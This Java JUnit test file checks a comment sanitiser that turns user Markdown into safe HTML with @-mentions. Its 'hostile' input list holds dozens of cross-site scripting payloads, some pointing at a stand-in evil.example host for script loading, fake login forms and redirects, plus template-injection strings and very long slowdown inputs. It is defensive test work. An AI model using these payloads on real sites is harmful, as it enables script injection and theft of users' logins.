package id.kerani.talk;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Map;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** What people type as it reaches other people's browsers. The time limit is there for inputs that would never end. */
@Timeout(60)
class CommentTextTest {

    private static final Map<String, String> PEOPLE =
            Map.of("budi", "Budi Santoso", "evil", "<img src=x onerror=alert(1)>", "a.b-c", "Dotted");

    private static final Set<String> ELEMENTS =
            Set.of("p", "br", "em", "strong", "ul", "ol", "li", "blockquote", "code", "pre", "a", "span");
    private static final Pattern TAG = Pattern.compile("</?([a-z]+)((?: [a-z]+=\"[^\"<>]*\")*) ?/?>");
    private static final Pattern ATTRIBUTE = Pattern.compile(" ([a-z]+)=\"([^\"<>]*)\"");

    private static String html(String markdown) {
        return CommentText.html(CommentText.cleaned(markdown), PEOPLE);
    }

    @Test
    void showsItsPartOfMarkdown() {
        assertThat(html("Halo *Bu*, **penting**:\nbaris dua"))
                .isEqualTo("<p>Halo <em>Bu</em>, <strong>penting</strong>:<br />baris dua</p>\n");
        assertThat(html("- satu\n- dua")).contains("<ul>").contains("<li>satu</li>");
        assertThat(html("3. satu\n4. dua")).contains("<ol start=\"3\">");
        assertThat(html("> kutipan")).contains("<blockquote>");
        assertThat(html("`a < b` dan\n```\nx\n```"))
                .contains("<code>a &lt; b</code>")
                .contains("<pre><code>x");
        assertThat(html("[situs](https://kerani.id/a?b=1&c=2) <mailto:a@b.co>"))
                .contains("href=\"https://kerani.id/a?b&#61;1&amp;c&#61;2\"")
                .contains("rel=\"noopener noreferrer nofollow\"")
                .contains("href=\"mailto:a&#64;b.co\"");
        assertThat(html("# Judul\n\nJudul\n=====")).doesNotContain("<h").contains("# Judul");
    }

    @Test
    void marksOnlyPeopleWhoAreThere() {
        assertThat(html("Tolong @budi, dan @Budi."))
                .contains("<span class=\"k-mention\">&#64;Budi Santoso</span>, dan");
        assertThat(html("@siapa @budi2 a@budi.co x/@budi")).doesNotContain("k-mention");
        assertThat(html("@a.b-c. lalu (@budi)")).contains("&#64;Dotted</span>.").contains("&#64;Budi Santoso</span>)");
        assertThat(html("`@budi` [@budi](https://a.co)")).doesNotContain("k-mention");
        assertThat(CommentText.logins("@Budi @siti, `@kode` [@tautan](https://a.co) mail@orang.co\n- @daftar"))
                .containsExactly("budi", "siti", "daftar");
    }

    @Test
    void dropsSignsNobodySees() {
        assertThat(CommentText.cleaned("a\u0000b\u0007\u202ec\u2066d\u200be\ufeff\r\nf\rg\t"))
                .isEqualTo("abcde\nf\ng");
        assertThat(CommentText.cleaned("Ayu \ud83d\udc4d\ud83c\udffd é")).isEqualTo("Ayu \ud83d\udc4d\ud83c\udffd é");
    }

    static Stream<String> hostile() {
        Stream<String> named = Stream.of(
                "<script>alert(1)</script>",
                "<ScRiPt src=//evil.example/x.js></sCrIpT>",
                "<img src=x onerror=alert(1)>",
                "<svg/onload=alert(1)>",
                "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
                "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<body onload=alert(1)><style>*{background:url(javascript:1)}</style>",
                "<form action=//evil.example><input name=p><button>Masuk</button></form>",
                "<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
                "<!--><img src=x onerror=alert(1)>--> <![CDATA[<script>alert(1)</script>]]>",
                "[x](javascript:alert(1))",
                "[x](JaVaScRiPt:alert(1)) [y](java\nscript:alert(1)) [z](&#106;avascript:alert(1))",
                "[x](\u0001javascript:alert(1)) [y](java\tscript:alert(1)) [z](javascript&colon;alert(1))",
                "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
                "[x](vbscript:msgbox(1)) [y](file:///etc/passwd) [z](blob:https://a/1) [v](//evil.example)",
                "[x](https://a.co\" onmouseover=\"alert(1)) [y](<https://a.co/\"onclick=alert(1)>)",
                "[x](https://a.co 'title\" onclick=alert(1) x=\"')",
                "<javascript:alert(1)> <data:text/html,x> <https://a.co/<script>>",
                "![x](https://evil.example/pixel.png) ![y](javascript:alert(1)) ![\"><script>](x)",
                "![[x](javascript:1)](data:image/svg+xml;base64,PHN2Zz4=)",
                "[x]: javascript:alert(1)\n\n[x] ![x]",
                "```\"><script>alert(1)</script>\nx\n```",
                "``` html onclick=alert(1)\n</code></pre><script>alert(1)</script>\n```",
                "`</code><script>alert(1)</script>`",
                "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
                "@evil und @budi<script>alert(1)</script>",
                "*<img src=x* onerror=alert(1)>*",
                "<<script>script>alert(1)<</script>/script>",
                "\u202e<script>\u202c \u2067x\u2069 \uff1cscript\uff1e",
                "<x\u0000script>alert(1)</x\u0000script> <scr\u200bipt>",
                "\ud800<script>\udc00",
                "{{constructor.constructor('alert(1)')()}} ${alert(1)} #{1+1}");
        Stream<String> large = Stream.of(
                "[".repeat(8000),
                "[a](".repeat(2000),
                "![".repeat(4000) + "](x)".repeat(10),
                "[a]: ".repeat(1600),
                "*".repeat(8000),
                "*a _b ".repeat(1300),
                "**a *b ".repeat(500) + "c* d**".repeat(500),
                ">".repeat(8000),
                "> ".repeat(4000),
                "- ".repeat(4000),
                "- a\n".repeat(2000),
                IntStream.range(0, 120).mapToObj(i -> " ".repeat(i) + "- a\n").reduce("", String::concat),
                "`".repeat(8000),
                IntStream.range(1, 120).mapToObj("`"::repeat).reduce("", (a, b) -> a + "a" + b),
                "<".repeat(8000),
                "<a ".repeat(2600),
                "&#x".repeat(2600),
                "\\".repeat(8000),
                "@budi".repeat(1600),
                "@a-".repeat(2600),
                ("@" + "a.".repeat(31) + " ").repeat(120),
                "a\n".repeat(4000),
                "|a".repeat(4000),
                "\u0301".repeat(8000),
                ("\ud83d\udc68\u200d").repeat(2600));
        return Stream.concat(named, large);
    }

    @ParameterizedTest
    @MethodSource("hostile")
    void letsNothingActivePass(String text) {
        String html = html(text);
        Matcher tags = TAG.matcher(html);
        while (tags.find()) {
            assertThat(ELEMENTS).contains(tags.group(1));
            Matcher attributes = ATTRIBUTE.matcher(tags.group(2));
            while (attributes.find()) {
                String value = attributes.group(2);
                switch (attributes.group(1)) {
                    case "href" -> assertThat(value).matches("(?i)(https?://|mailto:).+");
                    case "rel" -> assertThat(value).isEqualTo("noopener noreferrer nofollow");
                    case "class" -> assertThat(value).isEqualTo("k-mention");
                    case "start" -> assertThat(value).containsOnlyDigits();
                    default -> throw new AssertionError("Attribute " + attributes.group());
                }
            }
        }
        // What is no tag of these is text, in which no tag can begin. The sanitiser parts double braces by a comment.
        assertThat(TAG.matcher(html).replaceAll("").replace("{<!-- -->{", "{{"))
                .doesNotContain("<")
                .doesNotContain("\u202e");
        assertThat(html.length()).isLessThan(40 * Math.max(100, text.length()));
    }

    @ParameterizedTest
    @MethodSource("hostile")
    void findsPeopleInAnything(String text) {
        assertThat(CommentText.logins(CommentText.cleaned(text))).allMatch(login -> login.length() <= 64);
    }
}
